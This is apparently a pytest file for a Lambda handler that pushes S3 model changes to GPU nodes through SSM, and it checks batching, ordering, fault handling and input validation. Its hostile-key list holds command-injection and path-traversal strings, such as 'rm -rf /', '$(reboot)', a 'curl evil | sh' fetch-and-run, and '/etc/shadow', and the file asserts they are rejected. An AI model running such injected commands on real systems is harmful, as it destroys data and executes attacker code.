"""The model-sync Lambda handler against moto (EC2 + SSM): bursts, deletes, hostile keys and faults.

SendCommand requests are recorded at the botocore boundary (after parameter validation, as the API
receives them) and their payloads decoded, so every assertion is on what would really reach the nodes.
moto's own command list is not used for instance ids: without Targets it lists every instance.
"""

from __future__ import annotations

import importlib.util
import json
import shlex
import string
import sys
from pathlib import Path
from types import SimpleNamespace
from urllib.parse import quote_plus

import boto3
import pytest
from botocore.stub import Stubber
from moto import mock_aws

from modules.names import (
    CLUSTER_TAG_KEY,
    GPU_POOL_TAG_KEY,
    GPU_POOL_TAG_VALUE,
    MODEL_SYNC_RESERVED_PREFIX,
    MODEL_SYNC_SCRIPT_PATH,
    MODELS_READY_MARKER,
)

HANDLER_FILE = Path(__file__).resolve().parent.parent / "lambda" / "model_sync" / "sync_handler.py"
REGION = "us-west-2"
BUCKET = "comfyui-dev-models-111122223333-us-west-2"
CLUSTER = "comfyui-dev"
BIG_CLUSTER = "comfyui-big"
EMPTY_CLUSTER = "comfyui-empty"
AMI = "ami-12c6146b"


def load_handler():
    # `lambda` is a keyword: load the file as a module (without writing bytecode next to the sources).
    spec = importlib.util.spec_from_file_location("model_sync_handler", HANDLER_FILE)
    module = importlib.util.module_from_spec(spec)
    sys.modules[spec.name] = module  # dataclasses look their module up there
    dont_write, sys.dont_write_bytecode = sys.dont_write_bytecode, True
    try:
        spec.loader.exec_module(module)
    finally:
        sys.dont_write_bytecode = dont_write
    return module


h = load_handler()


def settings(**overrides):
    values = {
        "bucket": BUCKET,
        "prefix": "",
        "models_dir": "/opt/comfyui/models",
        "region": REGION,
        "cluster_name": CLUSTER,
        "cluster_tag_key": CLUSTER_TAG_KEY,
        "pool_tag_key": GPU_POOL_TAG_KEY,
        "pool_tag_value": GPU_POOL_TAG_VALUE,
        "script_path": MODEL_SYNC_SCRIPT_PATH,
    }
    values.update(overrides)
    return h.Settings(**values)


class Events:
    """Real-shaped S3 event notifications wrapped in SQS records, with increasing sequencers."""

    def __init__(self) -> None:
        self.sequence = 0x5F0000000000000000
        self.messages = 0

    def record(self, key: str, event: str = "ObjectCreated:Put", *, encoded: str | None = None, bucket: str = BUCKET):
        self.sequence += 0x100
        return {
            "eventVersion": "2.1",
            "eventSource": "aws:s3",
            "awsRegion": REGION,
            "eventTime": "2025-11-20T10:00:00.000Z",
            "eventName": event,
            "userIdentity": {"principalId": "AWS:AIDAEXAMPLE"},
            "requestParameters": {"sourceIPAddress": "10.0.0.1"},
            "responseElements": {"x-amz-request-id": "C3D13FE58DE4C810", "x-amz-id-2": "FMyUVURIY8/IgAtTv8xRjskZ"},
            "s3": {
                "s3SchemaVersion": "1.0",
                "configurationId": "model-sync",
                "bucket": {
                    "name": bucket,
                    "ownerIdentity": {"principalId": "A3NL1KOZZKExample"},
                    "arn": f"arn:aws:s3:::{bucket}",
                },
                # S3 URL-encodes keys like quote_plus: a space becomes '+', '+' becomes %2B.
                "object": {
                    "key": encoded if encoded is not None else quote_plus(key, safe="/"),
                    "size": 1024,
                    "eTag": "d41d8cd98f00b204e9800998ecf8427e",
                    "sequencer": f"{self.sequence:X}",
                },
            },
        }

    def message(self, *records: dict, body: str | None = None) -> dict:
        self.messages += 1
        return {
            "messageId": f"msg-{self.messages:05d}",
            "receiptHandle": "AQEBwJnKyrHigUMZj6rYigCgxlaS3SLy0a",
            "body": body if body is not None else json.dumps({"Records": list(records)}),
            "attributes": {"ApproximateReceiveCount": "1", "SentTimestamp": "1732600000000"},
            "messageAttributes": {},
            "md5OfBody": "e4e68fb7bd0e697a0ae8f1bb342846b3",
            "eventSource": "aws:sqs",
            "eventSourceARN": f"arn:aws:sqs:{REGION}:111122223333:comfyui-dev-model-sync",
            "awsRegion": REGION,
        }

    def event(self, keys_and_events: list[tuple[str, str]]) -> dict:
        return {"Records": [self.message(self.record(key, name)) for key, name in keys_and_events]}


def launch(ec2, count: int, *, cluster: str = CLUSTER, pool: str | None = GPU_POOL_TAG_VALUE) -> list[str]:
    tags = [{"Key": CLUSTER_TAG_KEY, "Value": cluster}]
    if pool is not None:
        tags.append({"Key": GPU_POOL_TAG_KEY, "Value": pool})
    response = ec2.run_instances(
        ImageId=AMI,
        MinCount=count,
        MaxCount=count,
        InstanceType="g6e.xlarge",
        TagSpecifications=[{"ResourceType": "instance", "Tags": tags}],
    )
    return sorted(instance["InstanceId"] for instance in response["Instances"])


@pytest.fixture(scope="module")
def cloud():
    """One mocked account for the module (moto's reset costs ~0.5 s per test).

    CLUSTER: 10 running GPU nodes, plus instances that must never receive anything (another cluster's
    GPU nodes, this cluster's CPU nodes, an instance without pool tag, a stopped GPU node).
    BIG_CLUSTER: 120 GPU nodes. EMPTY_CLUSTER: CPU system nodes only.
    """
    with mock_aws():
        ec2 = boto3.client("ec2", region_name=REGION)
        ssm = boto3.client("ssm", region_name=REGION)
        ssm.sent = []  # every SendCommand request's parameters, in order

        def record(params, **_):
            ssm.sent.append(json.loads(json.dumps(params)))

        ssm.meta.events.register("provide-client-params.ssm.SendCommand", record)
        nodes = launch(ec2, 10)
        launch(ec2, 2, cluster="another-cluster")
        launch(ec2, 2, pool="system")
        launch(ec2, 1, pool=None)
        stopped = launch(ec2, 1)
        ec2.stop_instances(InstanceIds=stopped)
        big = launch(ec2, 120, cluster=BIG_CLUSTER)
        launch(ec2, 2, cluster=EMPTY_CLUSTER, pool="system")
        yield SimpleNamespace(ec2=ec2, ssm=ssm, nodes=nodes, big=big)


@pytest.fixture
def aws(cloud):
    cloud.ssm.sent.clear()
    return cloud.ec2, cloud.ssm


def sent_commands(ssm) -> list[dict]:
    return ssm.sent


def command_argv(command: dict) -> list[str]:
    (line,) = command["Parameters"]["commands"]
    return shlex.split(line)


def payload_of(command: dict) -> dict[str, str]:
    argv = command_argv(command)
    return h.decode_payload(argv[argv.index("--payload") + 1])


def log_lines(capsys, event: str | None = None) -> list[dict]:
    """The handler's JSON log lines (one object per line), optionally only those of one event."""
    lines = [json.loads(line) for line in capsys.readouterr().out.split("\n") if line]
    return [line for line in lines if event is None or line["event"] == event]


def run(event, ec2, ssm, **overrides):
    return h.process(event, settings(**overrides), ec2, ssm)


def test_burst_of_200_creates_and_20_deletes_over_10_nodes_is_one_command(aws, cloud):
    ec2, ssm = aws
    nodes = cloud.nodes
    events = Events()
    created = [f"checkpoints/model-{n:03d}.safetensors" for n in range(200)]
    # 10 deletes of models uploaded earlier in the same burst (delete wins) and 10 of older models.
    deleted_from_burst = created[:10]
    deleted_old = [f"loras/old-{n:02d}.safetensors" for n in range(10)]
    burst = [(key, "ObjectCreated:Put") for key in created]
    burst += [(key, "ObjectRemoved:Delete") for key in deleted_from_burst + deleted_old]
    event = events.event(burst)
    assert len(event["Records"]) == 220

    assert run(event, ec2, ssm) == {"batchItemFailures": []}

    commands = sent_commands(ssm)
    assert len(commands) == 1  # one batch, 10 nodes: one SendCommand call
    (command,) = commands
    assert sorted(command["InstanceIds"]) == nodes
    assert command["DocumentName"] == "AWS-RunShellScript"
    assert command["MaxErrors"] == "100%"
    payload = payload_of(command)
    assert sorted(k for k, a in payload.items() if a == "copy") == sorted(created[10:])
    assert sorted(k for k, a in payload.items() if a == "delete") == sorted(deleted_from_burst + deleted_old)
    argv = command_argv(command)
    assert argv[0] == MODEL_SYNC_SCRIPT_PATH
    assert argv[argv.index("--bucket") + 1] == BUCKET
    assert argv[argv.index("--dir") + 1] == "/opt/comfyui/models"
    assert command["Parameters"]["executionTimeout"] == ["7200"]


def test_burst_split_over_two_pollers_is_two_commands_with_every_change(aws):
    # With two concurrent pollers SQS may hand the burst to two invocations: still two calls in total.
    ec2, ssm = aws
    events = Events()
    burst = [(f"checkpoints/m{n:03d}.safetensors", "ObjectCreated:CompleteMultipartUpload") for n in range(200)]
    burst += [(f"checkpoints/m{n:03d}.safetensors", "ObjectRemoved:DeleteMarkerCreated") for n in range(20)]
    records = events.event(burst)["Records"]
    for half in (records[:110], records[110:]):
        assert run({"Records": half}, ec2, ssm) == {"batchItemFailures": []}
    commands = sent_commands(ssm)
    assert len(commands) == 2
    merged: dict[str, str] = {}
    for command in commands:
        merged.update(payload_of(command))
    assert {k for k, a in merged.items() if a == "delete"} == {f"checkpoints/m{n:03d}.safetensors" for n in range(20)}
    assert {k for k, a in merged.items() if a == "copy"} == {
        f"checkpoints/m{n:03d}.safetensors" for n in range(20, 200)
    }


def test_last_event_per_key_wins_by_sequencer_not_arrival(aws):
    ec2, ssm = aws
    events = Events()
    put_a = events.record("a.safetensors", "ObjectCreated:Put")
    delete_a = events.record("a.safetensors", "ObjectRemoved:Delete")
    delete_b = events.record("b.safetensors", "ObjectRemoved:Delete")
    put_b = events.record("b.safetensors", "ObjectCreated:Copy")
    # Delivered out of order: the later events arrive first.
    event = {"Records": [events.message(r) for r in (delete_a, put_a, put_b, delete_b)]}
    assert run(event, ec2, ssm) == {"batchItemFailures": []}
    (command,) = sent_commands(ssm)
    assert payload_of(command) == {"a.safetensors": "delete", "b.safetensors": "copy"}


def test_sequencers_of_different_lengths_are_right_padded(aws):
    ec2, ssm = aws
    events = Events()
    older = events.record("x.bin", "ObjectCreated:Put")
    newer = events.record("x.bin", "ObjectRemoved:Delete")
    older["s3"]["object"]["sequencer"] = "0055AED6DCD90281E5"
    newer["s3"]["object"]["sequencer"] = "0055AED6DCD90281E6" + "00"  # longer, and later
    run({"Records": [events.message(newer), events.message(older)]}, ec2, ssm)
    (command,) = sent_commands(ssm)
    assert payload_of(command) == {"x.bin": "delete"}


def test_url_encoded_keys_are_decoded(aws):
    ec2, ssm = aws
    events = Events()
    keys = ["loras/my model v2.safetensors", "loras/a+b=c.safetensors", "checkpoints/modèle-日本語 ü.ckpt"]
    event = {"Records": [events.message(events.record(key)) for key in keys]}
    raw = [json.loads(r["body"])["Records"][0]["s3"]["object"]["key"] for r in event["Records"]]
    assert raw[0] == "loras/my+model+v2.safetensors" and raw[1] == "loras/a%2Bb%3Dc.safetensors"
    assert run(event, ec2, ssm) == {"batchItemFailures": []}
    (command,) = sent_commands(ssm)
    assert sorted(payload_of(command)) == sorted(keys)


HOSTILE_KEYS = [
    "../../etc/passwd",
    "checkpoints/../../../root/.ssh/authorized_keys",
    "/etc/shadow",
    "$(reboot)",
    "`reboot`.safetensors",
    ";rm -rf /",
    "a'; rm -rf / #.bin",
    'x" && curl evil | sh #',
    "line\nbreak.safetensors",
    "carriage\rreturn.bin",
    "tab\tkey.bin",
    "nul\x00byte.bin",
    "esc\x1b[31m.bin",
    "c1\x85next-line.bin",
    "sep\u2028line.bin",
    "checkpoints//double-slash.bin",
    "./dot.bin",
    "loras/",
    "back\\slash.bin",
    "$weird but (harmless?) name;.bin",
    "pipe|name.bin",
    "amp&name.bin",
    "redirect>name.bin",
    "glob*.bin",
    MODELS_READY_MARKER,
    f"{MODEL_SYNC_RESERVED_PREFIX}sync-staging/part.x",
    "x" * 256 + ".bin",
]


def test_hostile_keys_never_reach_a_command(aws, capsys):
    ec2, ssm = aws
    events = Events()
    good = ["checkpoints/good.safetensors", "Flux Dev (fp8) [v2] #1 100%.safetensors", "--not-an-option.bin"]
    records = [events.message(events.record(key, "ObjectCreated:Put")) for key in HOSTILE_KEYS + good]
    records += [events.message(events.record(key, "ObjectRemoved:Delete")) for key in HOSTILE_KEYS]
    assert run({"Records": records}, ec2, ssm) == {"batchItemFailures": []}
    (command,) = sent_commands(ssm)
    # Only the payload carries keys, and it is base64: nothing a shell interprets.
    line = command["Parameters"]["commands"][0]
    argv = command_argv(command)
    assert argv[-2] == "--payload" and set(argv[-1]) <= set(string.ascii_letters + string.digits + "+/=")
    assert shlex.join(argv) == line
    assert payload_of(command) == dict.fromkeys(good, "copy")
    for hostile in ("reboot", "rm -rf", "passwd", "shadow", "\n", "..", "curl", "$", ";", "`"):
        assert hostile not in line
        assert not any(hostile in key for key in payload_of(command))
    rejections = log_lines(capsys, "rejected_key")
    assert len(rejections) == 2 * len(HOSTILE_KEYS)
    assert all(r["reason"] for r in rejections)


def test_keys_outside_the_prefix_and_other_buckets_are_rejected(aws):
    ec2, ssm = aws
    events = Events()
    records = [
        events.message(events.record("models/checkpoints/in.safetensors")),
        events.message(events.record("scratch/out.safetensors")),
        events.message(events.record("models/evil.bin", bucket="someone-elses-bucket")),
    ]
    assert run({"Records": records}, ec2, ssm, prefix="models/") == {"batchItemFailures": []}
    (command,) = sent_commands(ssm)
    assert payload_of(command) == {"models/checkpoints/in.safetensors": "copy"}
    argv = command_argv(command)
    assert argv[argv.index("--prefix") + 1] == "models/"


def test_no_gpu_nodes_means_success_and_nothing_sent(aws, capsys):
    ec2, ssm = aws
    events = Events()
    event = events.event([("a.safetensors", "ObjectCreated:Put")])
    assert run(event, ec2, ssm, cluster_name=EMPTY_CLUSTER) == {"batchItemFailures": []}
    assert sent_commands(ssm) == []
    summary = log_lines(capsys, "batch_done")[0]
    assert summary["nodes"] == 0 and summary["send_command_calls"] == 0 and summary["keys"] == 1


def test_120_nodes_take_three_calls_of_at_most_50(aws, cloud):
    ec2, ssm = aws
    nodes = cloud.big
    events = Events()
    event = events.event([("a.safetensors", "ObjectCreated:Put")])
    assert run(event, ec2, ssm, cluster_name=BIG_CLUSTER) == {"batchItemFailures": []}
    commands = sent_commands(ssm)
    assert [len(c["InstanceIds"]) for c in commands] == [50, 50, 20]
    assert sorted(i for c in commands for i in c["InstanceIds"]) == nodes
    assert len({c["Parameters"]["commands"][0] for c in commands}) == 1  # the same command for every chunk


def test_describe_instances_is_paginated_and_filtered_by_both_tags(aws):
    ec2, _ = aws
    filters = [
        {"Name": f"tag:{CLUSTER_TAG_KEY}", "Values": [CLUSTER]},
        {"Name": f"tag:{GPU_POOL_TAG_KEY}", "Values": [GPU_POOL_TAG_VALUE]},
        {"Name": "instance-state-name", "Values": ["running"]},
    ]

    def page(*ids, token=None):
        reservations = [{"Instances": [{"InstanceId": i} for i in ids]}]
        return {"Reservations": reservations, **({"NextToken": token} if token else {})}

    stubber = Stubber(ec2)
    stubber.add_response(
        "describe_instances",
        page("i-0000000000000000a", "i-0000000000000000b", token="t1"),
        {"Filters": filters, "MaxResults": 1000},
    )
    stubber.add_response(
        "describe_instances", page("i-0000000000000000c"), {"Filters": filters, "MaxResults": 1000, "NextToken": "t1"}
    )
    with stubber:
        assert h.gpu_nodes(ec2, settings()) == ["i-0000000000000000a", "i-0000000000000000b", "i-0000000000000000c"]
    stubber.assert_no_pending_responses()


def test_too_many_keys_for_one_command_becomes_a_full_sync(aws):
    ec2, ssm = aws
    events = Events()
    burst = [(f"checkpoints/{n:05d}-{n * 7919 % 100003:06d}.safetensors", "ObjectCreated:Put") for n in range(600)]
    assert run(events.event(burst), ec2, ssm, max_command_bytes=4096) == {"batchItemFailures": []}
    (command,) = sent_commands(ssm)
    argv = command_argv(command)
    assert argv[-1] == "--full" and "--payload" not in argv
    assert "full" in command["Comment"]


def test_ssm_throttling_returns_the_batch_as_failures(aws):
    ec2, ssm = aws
    events = Events()
    event = events.event([("a.bin", "ObjectCreated:Put"), ("b.bin", "ObjectRemoved:Delete")])
    stubber = Stubber(ssm)
    stubber.add_client_error("send_command", "ThrottlingException", "Rate exceeded", http_status_code=400)
    with stubber:
        response = run(event, ec2, ssm)
    stubber.assert_no_pending_responses()
    assert response == {"batchItemFailures": [{"itemIdentifier": "msg-00001"}, {"itemIdentifier": "msg-00002"}]}


def test_partial_failure_fails_only_messages_that_contributed_keys(aws):
    ec2, ssm = aws  # BIG_CLUSTER: three chunks, the second one fails
    events = Events()
    records = [
        events.message(events.record("a.bin")),
        events.message(events.record("../escape.bin")),  # rejected: nothing to retry
        events.message(body="not json at all"),  # malformed: fails on its own
        events.message(body=json.dumps({"Service": "Amazon S3", "Event": "s3:TestEvent", "Bucket": BUCKET})),
    ]
    stubber = Stubber(ssm)
    stubber.add_response("send_command", {"Command": {"CommandId": "11111111-2222-3333-4444-555555555555"}})
    stubber.add_client_error("send_command", "InternalServerError", "SSM is having a day", http_status_code=500)
    stubber.add_response("send_command", {"Command": {"CommandId": "21111111-2222-3333-4444-555555555555"}})
    with stubber:
        response = run({"Records": records}, ec2, ssm, cluster_name=BIG_CLUSTER)
    stubber.assert_no_pending_responses()
    assert response == {"batchItemFailures": [{"itemIdentifier": "msg-00001"}, {"itemIdentifier": "msg-00003"}]}


def test_unregistered_node_is_skipped_now_and_the_batch_retried(aws, cloud, capsys):
    # A node still booting (SSM agent not registered) fails the whole call; the others get the command
    # right away, and the batch goes back to SQS so the late node is covered on the retry.
    ec2, ssm = aws
    nodes = cloud.nodes
    events = Events()
    event = events.event([("a.bin", "ObjectCreated:Put")])
    stubber = Stubber(ssm)
    stubber.add_client_error(
        "send_command",
        "InvalidInstanceId",
        f"Instances [[{nodes[2]}]] not in a valid state for account 111122223333",
        http_status_code=400,
    )
    expected_retry = {
        "InstanceIds": [n for n in nodes if n != nodes[2]],
        "DocumentName": "AWS-RunShellScript",
        "Comment": "model-sync 1 copy 0 delete",
        "Parameters": stub_any(),
        "MaxConcurrency": "50",
        "MaxErrors": "100%",
        "TimeoutSeconds": 600,
    }
    stubber.add_response("send_command", {"Command": {"CommandId": "c" * 36}}, expected_retry)
    with stubber:
        response = run(event, ec2, ssm)
    stubber.assert_no_pending_responses()
    assert response == {"batchItemFailures": [{"itemIdentifier": "msg-00001"}]}
    summary = log_lines(capsys, "batch_done")[0]
    assert summary["unreachable"] == [nodes[2]] and summary["send_command_calls"] == 2


def stub_any():
    from botocore.stub import ANY

    return ANY


def test_describe_failure_returns_failures(aws):
    ec2, ssm = aws
    events = Events()
    stubber = Stubber(ec2)
    stubber.add_client_error("describe_instances", "RequestLimitExceeded", "slow down", http_status_code=503)
    with stubber:
        response = run(events.event([("a.bin", "ObjectCreated:Put")]), ec2, ssm)
    assert response == {"batchItemFailures": [{"itemIdentifier": "msg-00001"}]}
    assert sent_commands(ssm) == []


@pytest.mark.parametrize(
    "body",
    [
        "not json",
        "[1, 2, 3]",
        json.dumps({"Records": []}),
        json.dumps({"Records": [{"eventName": "ObjectCreated:Put"}]}),
        json.dumps({"Records": [{"eventName": "ObjectCreated:Put", "s3": {"bucket": {"name": BUCKET}, "object": {}}}]}),
        json.dumps({"Records": [{"eventName": 7, "s3": {"bucket": {"name": BUCKET}, "object": {"key": "a"}}}]}),
        json.dumps({"Records": ["a string"]}),
        # Percent-encoded bytes that are not UTF-8: S3 never sends them.
        json.dumps(
            {
                "Records": [
                    {"eventName": "ObjectCreated:Put", "s3": {"bucket": {"name": BUCKET}, "object": {"key": "%FF"}}}
                ]
            }
        ),
    ],
)
def test_malformed_messages_fail_alone_and_reach_the_dlq(aws, body):
    ec2, ssm = aws
    events = Events()
    records = [events.message(body=body), events.message(events.record("good.bin"))]
    assert run({"Records": records}, ec2, ssm) == {"batchItemFailures": [{"itemIdentifier": "msg-00001"}]}
    (command,) = sent_commands(ssm)
    assert payload_of(command) == {"good.bin": "copy"}


def test_records_without_message_id_and_events_without_records_do_not_crash(aws):
    ec2, ssm = aws
    assert run({}, ec2, ssm) == {"batchItemFailures": []}
    assert run({"Records": [{"body": "{}"}]}, ec2, ssm) == {"batchItemFailures": []}
    assert sent_commands(ssm) == []


def test_s3_test_event_is_acknowledged(aws, capsys):
    ec2, ssm = aws
    events = Events()
    body = json.dumps(
        {
            "Service": "Amazon S3",
            "Event": "s3:TestEvent",
            "Time": "2025-11-20T10:00:00.000Z",
            "Bucket": BUCKET,
            "RequestId": "5582815E1AEA5ADF",
            "HostId": "8cLeGAmw098X5cv4Zkwcmo8vvZa3eH3eKxsPzbB9wrR+YstdA6Knx4Ip8EXAMPLE",
        }
    )
    assert run({"Records": [events.message(body=body)]}, ec2, ssm) == {"batchItemFailures": []}
    assert sent_commands(ssm) == []
    assert '"s3_test_event"' in capsys.readouterr().out


def test_other_event_types_are_ignored(aws):
    ec2, ssm = aws
    events = Events()
    event = events.event([("a.bin", "ObjectRestore:Completed"), ("b.bin", "ObjectTagging:Put")])
    assert run(event, ec2, ssm) == {"batchItemFailures": []}
    assert sent_commands(ssm) == []


def test_structured_summary_log(aws, capsys):
    ec2, ssm = aws
    events = Events()
    event = events.event(
        [("a.bin", "ObjectCreated:Put"), ("a.bin", "ObjectCreated:Put"), ("b.bin", "ObjectRemoved:Delete")]
    )
    run(event, ec2, ssm)
    (summary,) = log_lines(capsys, "batch_done")
    assert summary["level"] == "info"
    for field, value in {
        "messages": 3,
        "s3_records": 3,
        "keys": 2,
        "copies": 1,
        "deletes": 1,
        "nodes": 10,
        "mode": "incremental",
        "send_command_calls": 1,
        "failed_messages": 0,
    }.items():
        assert summary[field] == value, field
    assert len(summary["command_ids"]) == 1


def test_handler_reads_its_settings_from_the_environment(monkeypatch, aws, cloud, capsys):
    _, ssm = aws
    environment = {
        "MODELS_BUCKET": BUCKET,
        "MODELS_PREFIX": "",
        "MODELS_DIR": "/opt/comfyui/models",
        "BUCKET_REGION": REGION,
        "CLUSTER_NAME": CLUSTER,
        "CLUSTER_TAG_KEY": CLUSTER_TAG_KEY,
        "POOL_TAG_KEY": GPU_POOL_TAG_KEY,
        "POOL_TAG_VALUE": GPU_POOL_TAG_VALUE,
        "SYNC_SCRIPT_PATH": MODEL_SYNC_SCRIPT_PATH,
        "NODE_COMMAND_TIMEOUT_SECONDS": "900",
        "AWS_DEFAULT_REGION": REGION,
    }
    for name, value in environment.items():
        monkeypatch.setenv(name, value)
    monkeypatch.setattr(h, "_CLIENTS", {})
    events = Events()
    assert h.handler(events.event([("a.bin", "ObjectCreated:Put")]), None) == {"batchItemFailures": []}
    # Sent by the handler's own clients: read it back from SSM (moto lists every instance as a target
    # when no Targets are given, so the node count comes from the summary log).
    summary = log_lines(capsys, "batch_done")[0]
    assert summary["nodes"] == len(cloud.nodes) and summary["send_command_calls"] == 1
    (command,) = ssm.list_commands(CommandId=summary["command_ids"][0])["Commands"]
    assert command["Parameters"]["executionTimeout"] == ["900"]
    assert command["Comment"] == "model-sync 1 copy 0 delete"


def test_broken_configuration_fails_every_message(monkeypatch):
    monkeypatch.setenv("MODELS_BUCKET", "Not A Bucket; rm -rf /")
    events = Events()
    event = events.event([("a.bin", "ObjectCreated:Put"), ("b.bin", "ObjectCreated:Put")])
    assert h.handler(event, None) == {
        "batchItemFailures": [{"itemIdentifier": "msg-00001"}, {"itemIdentifier": "msg-00002"}]
    }


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("bucket", "UPPER"),
        ("prefix", "../"),
        ("prefix", "models/./"),
        ("models_dir", "relative/dir"),
        ("script_path", "/bin/sh -c x"),
        ("region", "mars"),
    ],
)
def test_settings_refuse_values_a_shell_would_interpret(field, value):
    with pytest.raises(ValueError):
        settings(**{field: value})


def test_payload_roundtrip_and_determinism():
    actions = {"b/ü x.bin": "delete", "a.bin": "copy"}
    encoded = h.encode_payload(actions)
    assert encoded == h.encode_payload(dict(reversed(list(actions.items()))))
    assert h.decode_payload(encoded) == actions
    assert MODELS_READY_MARKER.startswith(h.RESERVED_PREFIX) and h.RESERVED_PREFIX == MODEL_SYNC_RESERVED_PREFIX
